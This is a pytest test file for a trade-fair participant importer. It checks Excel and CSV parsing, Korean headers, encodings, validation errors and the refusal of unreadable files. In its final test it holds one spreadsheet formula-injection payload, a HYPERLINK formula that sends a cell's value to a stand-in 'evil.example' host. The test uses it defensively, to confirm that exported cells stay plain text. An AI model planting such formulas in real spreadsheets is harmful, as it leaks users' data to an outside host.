import csv
import io

import pytest
from openpyxl import Workbook
from sqlmodel import select

import builders
from store.db import session_scope
from store.errors import ImportFailed, Problem
from store.import_columns import header_key
from store.importer import import_participants
from store.models import Participant, Role
from views.vocabulary import vocabulary

HEADER = ["id", "role", "company", "country", "industry", "products", "email", "booth"]


def workbook(path, rows, header=HEADER):
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def people(engine):
    with session_scope(engine) as session:
        return {p.code: p for p in session.exec(select(Participant)).all()}


@pytest.fixture
def event(engine):
    with session_scope(engine) as session:
        builders.event(session)


def test_a_workbook_creates_participants_with_invites(engine, event, tmp_path):
    path = workbook(
        tmp_path / "people.xlsx",
        [
            ["B001", "buyer", "Acme", "US", "cosmetics", "skin care", "a@acme.com", "T-01"],
            ["S001", "국내기업", "한빛화장품", "KR", "cosmetics", "마스크팩", "", None],
        ],
    )
    with session_scope(engine) as session:
        result = import_participants(session, path, vocabulary())
    assert (result.created, result.updated) == (2, 0)
    stored = people(engine)
    assert stored["S001"].role == Role.seller and stored["S001"].company == "한빛화장품"
    assert stored["B001"].booth == "T-01"
    assert stored["B001"].invite_token != stored["S001"].invite_token


def test_reimport_updates_instead_of_duplicating(engine, event, tmp_path):
    row = ["B001", "buyer", "Acme", "US", "cosmetics", "", "", "T-01"]
    with session_scope(engine) as session:
        import_participants(session, workbook(tmp_path / "a.xlsx", [row]), vocabulary())
    token = people(engine)["B001"].invite_token
    row[2] = "Acme Global"
    with session_scope(engine) as session:
        result = import_participants(session, workbook(tmp_path / "b.xlsx", [row]), vocabulary())
    assert (result.created, result.updated) == (0, 1)
    stored = people(engine)
    assert len(stored) == 1
    assert (stored["B001"].company, stored["B001"].invite_token) == ("Acme Global", token)


def test_korean_headers_and_csv_with_a_byte_order_mark(engine, event, tmp_path):
    path = tmp_path / "people.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["번호", "구분", "회사명", "국가", "업종", "1일상담횟수"])
        writer.writerow(["B9", "바이어", "Saigon Imports", "VN", "food", "4"])
    with session_scope(engine) as session:
        import_participants(session, path, vocabulary())
    assert people(engine)["B9"].daily_cap == 4


def test_bad_rows_are_all_reported_and_nothing_is_stored(engine, event, tmp_path):
    path = workbook(
        tmp_path / "bad.xlsx",
        [
            ["B001", "buyer", "Acme", "US", "cosmetics", "", "a@acme.com", "T-01"],
            ["B002", "trader", "Beta", "US", "food", "", "", ""],
            ["S001", "seller", "", "KR", "food", "", "not-mail", "T-9"],
            [None, None, None, None, None, None, None, None],
            ["B001", "buyer", "Acme again", "US", "cosmetics", "", "", ""],
        ],
    )
    with session_scope(engine) as session, pytest.raises(ImportFailed) as failed:
        import_participants(session, path, vocabulary())
    assert failed.value.problems == [
        Problem(3, "role", "not_a_role", "trader"),
        Problem(4, "company", "required", ""),
        Problem(4, "email", "malformed", "not-mail"),
        Problem(4, "booth", "booth_for_buyers", "T-9"),
        Problem(6, "id", "duplicate_id", "B001", 2),
    ]
    assert people(engine) == {}


def test_missing_columns_are_refused_and_unknown_ones_left_unread(engine, event, tmp_path):
    path = workbook(tmp_path / "cols.xlsx", [], header=["id", "company", "colour"])
    with session_scope(engine) as session, pytest.raises(ImportFailed) as failed:
        import_participants(session, path, vocabulary())
    reasons = {(p.column, p.reason) for p in failed.value.problems}
    assert {("role", "missing_column"), ("country", "missing_column")} <= reasons
    assert not any(p.reason == "unknown_header" for p in failed.value.problems)


def test_an_organizers_extra_columns_are_read_past_and_named(engine, event, tmp_path):
    header = ["순번", "참가번호", "구분", "회사명(국문)", "국가", "업종", "휴대폰 번호", "비고"]
    row = [1, "S001", "국내기업", "한빛화장품", "KR", "화장품", "010-1234-5678", "VIP"]
    path = workbook(tmp_path / "extra.xlsx", [row], header=header)
    with session_scope(engine) as session:
        result = import_participants(session, path, vocabulary())
    assert (result.created, result.ignored) == (1, ("순번", "비고"))
    assert people(engine)["S001"].phone == "010-1234-5678"


def refusal(engine, path):
    with session_scope(engine) as session, pytest.raises(ImportFailed) as failed:
        import_participants(session, path, vocabulary())
    return failed.value.problems


def test_other_file_types_are_refused(engine, event, tmp_path):
    path = tmp_path / "people.json"
    path.write_text("id,role")
    assert refusal(engine, path) == [Problem(0, "", "file.unsupported", str(path))]


KOREAN_HEADER = (
    "참가번호,구분,회사명,국가,업종,품목,담당자,직함,이메일,전화번호,부스,1일 상담횟수,언어"
)
KOREAN_ROW = (
    "S001,국내기업,한빛화장품,KR,화장품,마스크팩,김민지,과장,kim@hanbit.kr,02-123-4567,,4,한국어"
)


@pytest.mark.parametrize(
    ("encoding", "bom", "name"),
    [
        ("utf-8", b"", "UTF-8"),
        ("utf-8", b"\xef\xbb\xbf", "UTF-8 (BOM)"),
        ("utf-16", b"", "UTF-16"),  # Python writes the byte-order mark itself
        ("cp949", b"", "CP949 (EUC-KR)"),
        ("euc-kr", b"", "CP949 (EUC-KR)"),
    ],
)
def test_csv_files_as_excel_saves_them(engine, event, tmp_path, encoding, bom, name):
    path = tmp_path / "people.csv"
    path.write_bytes(bom + f"{KOREAN_HEADER}\r\n{KOREAN_ROW}\r\n".encode(encoding))
    with session_scope(engine) as session:
        result = import_participants(session, path, vocabulary())
    assert (result.created, result.encoding) == (1, name)
    kim = people(engine)["S001"]
    assert (kim.company, kim.phone, kim.contact_title) == ("한빛화장품", "02-123-4567", "과장")
    assert (kim.daily_cap, kim.language, kim.role) == (4, "ko", Role.seller)


def test_excel_unicode_text_is_tab_separated_utf16(engine, event, tmp_path):
    path = tmp_path / "people.txt"
    text = KOREAN_HEADER.replace(",", "\t") + "\r\n" + KOREAN_ROW.replace(",", "\t") + "\r\n"
    path.write_bytes(text.encode("utf-16"))
    with session_scope(engine) as session:
        assert import_participants(session, path, vocabulary()).encoding == "UTF-16"
    assert people(engine)["S001"].company == "한빛화장품"


def test_every_field_label_of_the_bot_is_a_header(engine, event, tmp_path):
    """The bot labels the phone field 전화번호 (and "Phone"): the file may say so too."""
    from locales import catalog
    from store.import_columns import HEADERS, header_aliases

    aliases = header_aliases(vocabulary())
    for language in ("ko", "en"):
        for key in HEADERS:
            label = catalog(language).get(f"field.{key}")
            if label:
                assert aliases[header_key(label)] == key, (language, key)
    for key, names in HEADERS.items():
        assert all(aliases[header_key(name)] == key for name in names)


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("people.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "file.bad_workbook"),
        ("people.xlsx", b"id,role\n", "file.bad_workbook"),
        ("people.xlsx", b"PK\x03\x04 broken zip", "file.bad_workbook"),
        ("people.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "file.not_text"),
        ("people.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "file.old_excel"),
        ("people.csv", b"", "file.empty"),
        ("people.csv", b"\xff\xfe", "file.empty"),
        ("people.csv", b"\xff\xff\xff", "file.not_text"),
        ("people.png", b"\x89PNG\r\n", "file.unsupported"),
    ],
)
def test_unreadable_files_are_refused_naming_the_file(
    engine, event, tmp_path, name, content, reason
):
    path = tmp_path / name
    path.write_bytes(content)
    assert refusal(engine, path) == [Problem(0, "", reason, str(path))]


def test_a_missing_file_or_a_folder_is_refused(engine, event, tmp_path):
    missing = tmp_path / "nowhere.csv"
    assert refusal(engine, missing) == [Problem(0, "", "file.missing", str(missing))]
    assert refusal(engine, tmp_path) == [Problem(0, "", "file.folder", str(tmp_path))]


def test_cells_are_cleaned_like_typed_values(engine, event, tmp_path):
    path = workbook(
        tmp_path / "dirty.xlsx",
        [["B\u200b001", "buyer", " Acme\u200b Corp ", "US", "food", "", "", "T-1"]],
    )
    with session_scope(engine) as session:
        import_participants(session, path, vocabulary())
    assert people(engine)["B001"].company == "Acme Corp"
    blank = workbook(tmp_path / "blank.xlsx", [["B002", "buyer", "\u3164\u200b", "US", "food"]])
    assert refusal(engine, blank) == [Problem(2, "company", "required", "")]


@pytest.mark.slow
def test_a_fair_sized_workbook_imports_whole(engine, event, tmp_path):
    rows = [
        [f"B{i:05}", "buyer", f"Buyer {i}", "US", "food", "", f"b{i}@x.com", f"T-{i}"]
        for i in range(1000)
    ] + [[f"S{i:05}", "seller", f"셀러 {i}", "KR", "food", "김치", "", ""] for i in range(3000)]
    path = workbook(tmp_path / "big.xlsx", rows)
    with session_scope(engine) as session:
        result = import_participants(session, path, vocabulary())
    assert result.created == 4000
    stored = people(engine)
    assert len({p.invite_token for p in stored.values()}) == 4000
    assert stored["S02999"].products == "김치"


def test_an_imported_formula_is_text_in_the_export(engine, event, tmp_path):
    from openpyxl import load_workbook

    from store.export import export_data
    from views.export_workbook import workbook as export_workbook

    formula = '=HYPERLINK("http://evil.example/?c="&B2,"Open catalogue")'
    path = tmp_path / "people.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([HEADER, ["B001", "buyer", formula, "US", "food"]])
    with session_scope(engine) as session:
        import_participants(session, path, vocabulary())
    with session_scope(engine) as session:
        book = load_workbook(io.BytesIO(export_workbook(export_data(session), "ko")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert formula in {c.value for c in cells}
